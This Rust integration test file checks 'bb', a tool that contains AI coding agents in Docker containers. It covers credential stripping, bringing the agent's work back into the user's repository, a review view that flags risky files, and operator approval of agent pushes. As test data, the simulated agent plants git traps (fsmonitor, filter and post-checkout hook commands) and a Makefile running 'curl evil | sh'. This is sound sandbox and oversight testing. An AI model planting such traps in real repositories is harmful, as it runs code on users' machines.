//! An agent's work, out of real bottles through the real `bb`: the user's
//! repository goes in as a clone without its credentials; what the agent
//! commits and leaves uncommitted is read back (`bb diff`), taken as a
//! branch (`bb take`) leaving the user's checkout byte for byte as it was,
//! or applied to their files (`bb apply`, three ways, nothing changed on a
//! conflict); it survives `bb stop`; nothing of the agent's runs on the
//! host. A workspace that is no repository works the same.

mod support;

use std::path::Path;
use std::sync::Mutex;

use support::docker::{agent_sh, docker, docker_ok, left_behind, Env};
use support::{git, ok};

static SERIAL: Mutex<()> = Mutex::new(());

const TOKEN: &str = "ghp_SecretInTheRemoteUrl0123456789abcdefgh";

/// Everything `bb take` must leave alone: status, branch, index, the
/// working tree's bytes, the config.
fn host_state(repo: &Path) -> Vec<String> {
    let mut files: Vec<String> = Vec::new();
    let mut stack = vec![repo.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.file_name().is_some_and(|n| n == ".git") {
                continue;
            }
            if p.is_dir() {
                stack.push(p);
            } else {
                files.push(format!(
                    "{}={:?}",
                    p.strip_prefix(repo).unwrap().display(),
                    std::fs::read(&p).unwrap()
                ));
            }
        }
    }
    files.sort();
    files.push(git(repo, &["status", "--porcelain"]));
    files.push(git(repo, &["symbolic-ref", "HEAD"]));
    files.push(git(repo, &["ls-files", "-s"]));
    files.push(std::fs::read_to_string(repo.join(".git/config")).unwrap());
    files
}

#[test]
fn the_agents_work_comes_home_and_outlives_its_bottle() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let repo = env.project();
    git(&repo, &["init", "-q", "-b", "main"]);
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-qm", "the user's first commit"]);
    git(
        &repo,
        &[
            "remote",
            "add",
            "origin",
            &format!("https://x-access-token:{TOKEN}@github.com/me/app.git"),
        ],
    );
    git(&repo, &["config", "credential.helper", "store"]);
    std::fs::write(
        repo.join(".git-credentials"),
        format!("https://me:{TOKEN}@github.com\n"),
    )
    .unwrap();
    // The user's own uncommitted change, which the agent sees.
    std::fs::write(
        repo.join("src/lib.rs"),
        "// the user's code\n// and a change of theirs\n",
    )
    .unwrap();

    // The preflight says what stays behind.
    let pre = ok(&env.bb(&["preflight", "faker"]));
    assert!(pre.contains("credential in remote origin's URL"), "{pre}");
    assert!(pre.contains(".git-credentials"), "{pre}");
    assert!(!pre.contains(TOKEN), "{pre}");

    let slug = env.start();
    // The token is nowhere in the bottle; the history and the change are.
    let inside = agent_sh(&slug, "git remote -v; git config --list; git log --format=%s; git status --porcelain; ls -a; grep -rl x-access-token . || true");
    assert!(
        !inside.contains(TOKEN) && !inside.contains("x-access-token"),
        "{inside}"
    );
    assert!(
        inside.contains("origin\thttps://github.com/me/app.git"),
        "{inside}"
    );
    assert!(inside.contains("the user's first commit"), "{inside}");
    assert!(inside.contains(" M src/lib.rs"), "{inside}");
    assert!(!inside.contains(".git-credentials"), "{inside}");

    // The agent commits twice, then leaves a change and a new file, and
    // sets traps in its repository for whoever reads it.
    let marker = env.dir.path().join("ran-on-the-host");
    let traps = format!(
        "git config core.fsmonitor 'touch {m}' && git config filter.evil.clean 'touch {m}' && git config filter.evil.smudge 'touch {m}' && git config core.hooksPath .hooks && mkdir -p .hooks && printf '#!/bin/sh\\ntouch {m}\\n' > .hooks/post-checkout && chmod +x .hooks/post-checkout && printf '*.rs filter=evil\\n' > .gitattributes",
        m = marker.display()
    );
    let out = agent_sh(
        &slug,
        &format!("echo 'pub fn a() {{}}' > src/a.rs && git add src/a.rs && git commit -qm 'add a' && echo 'pub fn b() {{}}' >> src/a.rs && git commit -qam 'add b' && echo 'pub fn c() {{}}' >> src/a.rs && echo 'new' > NEW.md && {traps}"),
    );
    assert!(!out.contains("fatal"), "{out}");

    // bb diff: all of it, committed and not.
    let patch = ok(&env.bb(&["diff", &slug]));
    for what in [
        "+pub fn a() {}",
        "+pub fn b() {}",
        "+pub fn c() {}",
        "+new",
        "NEW.md",
    ] {
        assert!(patch.contains(what), "{what} in:\n{patch}");
    }
    assert!(
        !patch.contains("and a change of theirs"),
        "the user's change is not the agent's:\n{patch}"
    );
    let stat: serde_json::Value =
        serde_json::from_str(&ok(&env.bb(&["diff", &slug, "--stat", "--format", "json"]))).unwrap();
    assert_eq!(stat["commits"].as_array().unwrap().len(), 2, "{stat}");
    assert_eq!(stat["uncommitted"], true);
    let ls = ok(&env.bb(&["ls"]));
    assert!(
        ls.contains("2 commits, ") && ls.contains("(not taken)"),
        "{ls}"
    );

    // bb take: a branch, the user's checkout byte for byte unchanged.
    let before = host_state(&repo);
    let took = ok(&env.bb(&["take", &slug]));
    assert!(took.contains("into branch bb/"), "{took}");
    assert_eq!(
        host_state(&repo),
        before,
        "the user's checkout is as it was"
    );
    let branch = format!("bb/{slug}");
    let log = git(&repo, &["log", "--format=%s", &branch]);
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        [
            "bb: uncommitted work of faker (not committed by the agent)",
            "add b",
            "add a",
            "the user's first commit"
        ]
    );

    // bb apply: three ways into the user's files, which keep their change.
    let applied = ok(&env.bb(&["apply", &slug]));
    assert!(applied.contains("applied the work of faker"), "{applied}");
    assert_eq!(
        std::fs::read_to_string(repo.join("src/a.rs")).unwrap(),
        "pub fn a() {}\npub fn b() {}\npub fn c() {}\n"
    );
    assert!(std::fs::read_to_string(repo.join("src/lib.rs"))
        .unwrap()
        .contains("a change of theirs"));
    assert_eq!(
        git(&repo, &["symbolic-ref", "HEAD"]).trim(),
        "refs/heads/main"
    );
    // A conflicting change of the user's: nothing changes, one line why.
    git(&repo, &["checkout", "-q", "--", "."]);
    git(&repo, &["clean", "-qfd", "-e", ".git-credentials"]);
    std::fs::write(repo.join("src/a.rs"), "pub fn mine() {}\n").unwrap();
    let before = host_state(&repo);
    let o = env.bb(&["apply", &slug]);
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("conflict with yours in src/a.rs") && err.lines().count() == 1,
        "{err}"
    );
    assert_eq!(host_state(&repo), before, "nothing changed");

    // bb stop saves first, says where and that it is not all taken.
    std::fs::remove_file(repo.join("src/a.rs")).unwrap();
    agent_sh(&slug, "echo 'late work' > LATE.md");
    let stopped = ok(&env.bb(&["stop", &slug]));
    assert!(stopped.contains("saved the work of faker"), "{stopped}");
    assert!(stopped.contains("not taken yet"), "{stopped}");
    assert_eq!(left_behind(&slug), "");
    // From the saved copy, after the bottle is gone.
    let patch = ok(&env.bb(&["diff", &slug]));
    assert!(patch.contains("late work"), "{patch}");
    ok(&env.bb(&["take", &slug, "--as", "after-stop"]));
    assert!(git(&repo, &["show", "after-stop:LATE.md"]).contains("late work"));
    ok(&env.bb(&["cleanup"]));
    assert!(
        ok(&env.bb(&["archive", "ls"])).contains(&slug),
        "cleanup keeps saved work"
    );
    let pruned = ok(&env.bb(&["archive", "prune", &slug]));
    assert!(
        pruned.contains("removed the saved work of faker"),
        "{pruned}"
    );

    assert!(!marker.exists(), "nothing of the agent's ran on the host");
}

#[test]
fn a_workspace_that_is_no_repository_works_the_same() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let slug = env.start();
    let log = agent_sh(&slug, "git log --format=%s");
    assert_eq!(log.trim(), "bb: the workspace at launch");
    agent_sh(
        &slug,
        "echo 'pub fn z() {}' >> src/lib.rs && echo x > x.txt",
    );
    let patch = ok(&env.bb(&["diff", "faker"]));
    assert!(
        patch.contains("+pub fn z() {}") && patch.contains("x.txt"),
        "{patch}"
    );
    let o = env.bb(&["take", &slug]);
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("is not a git repository"));
    ok(&env.bb(&["apply", &slug]));
    assert!(std::fs::read_to_string(env.project().join("src/lib.rs"))
        .unwrap()
        .contains("pub fn z()"));
    assert_eq!(
        std::fs::read_to_string(env.project().join("x.txt")).unwrap(),
        "x\n"
    );
    let _ = docker(&["ps"]);
    ok(&env.bb(&["stop", &slug]));
    assert_eq!(left_behind(&slug), "");
}

/// The review view in the real workspace: a change of 200 files and
/// 20,000 lines opens with the files that act on the host first, scrolls,
/// and follows the agent as it keeps working.
#[test]
fn the_review_view_opens_on_a_large_change_flagged_files_first() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let mut bb = env.workspace_with_agent(40, 140);
    let slug = env.slugs().pop().unwrap();
    let made = agent_sh(
        &slug,
        "mkdir -p gen && for i in $(seq -w 1 200); do seq -f \"line %g of file $i\" 1 100 > gen/f$i.txt; done && printf 'export PATH=./bin:$PATH\\n' > .envrc && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo done",
    );
    assert!(made.trim().ends_with("done"), "{made}");
    bb.prefix("v");
    let screen = bb.wait_text("Files that act on your machine");
    assert!(screen.contains("202 files (+20003 −0)"), "{screen}");
    let flags = screen.find("! .envrc").unwrap();
    let makefile = screen.find("! Makefile").unwrap();
    let files = screen.find("Files:").unwrap_or(usize::MAX);
    assert!(
        flags < files && makefile < files,
        "flagged first:\n{screen}"
    );
    // To the end, and file by file.
    bb.keys("G");
    bb.wait_text("+line 100 of file 200");
    bb.keys("g");
    bb.wait_text("Files that act on your machine");
    bb.keys("n");
    bb.wait_text("diff --git a/.envrc b/.envrc");
    // It follows the agent's work while open.
    agent_sh(&slug, "echo more > late.txt");
    bb.keys("g");
    bb.wait_text("203 files");
    bb.keys("q");
    bb.prefix("x");
    bb.wait_text("Stop faker");
    bb.keys("y");
    bb.wait_text("saved the work of faker");
    bb.prefix("d");
    bb.wait_exit();
    assert_eq!(left_behind(&slug), "");
}

/// A remote that says `ReviewPushes: true`: the agent's push waits for the
/// operator in the workspace, across a restart of bb, with its commits
/// and diff shown; approved, it reaches the upstream; rejected, the
/// agent's git is told why and the upstream is untouched.
#[test]
fn a_held_push_waits_for_the_operator_across_a_restart() {
    use support::upstream::GitUpstream;
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let mut upstream = GitUpstream::for_bottle(&env, "      ReviewPushes: true\n");
    let envs = env.envs();
    let pairs: Vec<(&str, &str)> = envs.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let mut bb = env.workspace_with_agent(40, 140);
    let slug = env.slugs().pop().unwrap();
    upstream.start(&slug);
    let agent = |script: &str| {
        docker(&[
            "exec",
            "-u",
            "node",
            &format!("bb-{slug}"),
            "sh",
            "-c",
            &format!("cd /tmp && {script} 2>&1; true"),
        ])
    };
    let clone = agent(
        "git clone -q ssh://git@git.example/home/git/app.git app && git -C app log --format=%s",
    );
    assert!(clone.trim().ends_with("seed"), "{clone}");
    // A push, in the background: its git waits for the decision.
    let push_in_background = |file: &str, subject: &str| {
        docker(&[
            "exec",
            "-d",
            "-u",
            "node",
            &format!("bb-{slug}"),
            "sh",
            "-c",
            &format!(
                "cd /tmp/app && echo 'fn {file}() {{}}' > {file}.rs && git add . && git commit -qm '{subject}' && git push origin main > /tmp/push.log 2>&1; echo $? > /tmp/push.rc"
            ),
        ]);
    };
    let push_result = || agent("cat /tmp/push.rc /tmp/push.log");
    push_in_background("held", "held work");
    bb.wait_text("push to app: main");
    assert_eq!(
        upstream.log("main").trim(),
        "seed",
        "nothing went upstream yet"
    );
    // bb is restarted while the push is held.
    bb.prefix("d");
    bb.wait_exit();
    let mut bb = support::Bb::spawn(&[], &pairs, &env.project(), 40, 140);
    bb.wait_text("push to app: main");
    bb.prefix("p");
    let screen = bb.wait_text("Proposal from faker");
    assert!(
        screen.contains("held work (Fake Agent)"),
        "the commit: {screen}"
    );
    assert!(screen.contains("+fn held() {}"), "the diff: {screen}");
    // Its diff in the review view, then back to decide.
    bb.keys("v");
    let screen = bb.wait_text("faker's push to app: 1 commit, 1 file (+1 −0)");
    assert!(screen.contains("held work (Fake Agent)"), "{screen}");
    bb.keys("q");
    bb.wait_text("Proposal from faker");
    bb.keys("a");
    support::eventually("the approved push upstream", || {
        upstream.log("main").starts_with("held work")
    });
    support::eventually("the agent's push to succeed", || {
        push_result().starts_with("0")
    });
    // A second push, rejected with a reason.
    bb.wait_text("Proposals (0)");
    agent("rm -f /tmp/push.rc");
    push_in_background("worse", "worse work");
    bb.wait_text("Proposals (1)");
    bb.prefix("p");
    bb.wait_text("worse work");
    bb.keys("r");
    bb.keys("not this one");
    bb.keys("\r");
    support::eventually("the agent's push to fail", || {
        push_result().starts_with("1")
    });
    assert!(
        push_result().contains("the operator rejected this push: not this one"),
        "{}",
        push_result()
    );
    assert!(upstream.log("main").starts_with("held work"), "untouched");
    bb.prefix("d");
    bb.wait_exit();
    drop(upstream);
    ok(&env.bb(&["stop", "--force", &slug]));
    assert_eq!(left_behind(&slug), "");
}
